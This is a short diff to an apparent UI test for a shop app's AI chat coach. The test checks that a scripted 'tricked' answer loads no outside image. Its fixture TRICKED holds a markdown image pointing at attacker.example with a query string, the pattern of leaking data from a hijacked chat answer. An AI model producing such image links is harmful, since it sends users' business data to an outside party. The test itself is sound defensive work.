@@ -16,7 +16,7 @@ TRICKED = ['Revenue is $1,234.\n\n', '![chart](https://attacker.example/p.png?re
 
 async def test_an_answer_loads_no_outside_image_and_its_links_open_safely(user: User):
     await sign_up_owner(user)
-    app.state.ctx.coach.answer = scripted(TRICKED)[0]
+    app.state.shops.coach.answer = scripted(TRICKED)[0]
     await ask(user, 'How is revenue today?')
     await user.should_see(marker='chat-thumb-up', retries=SLOW)
     (answer,) = user.find(marker='chat-answer').elements
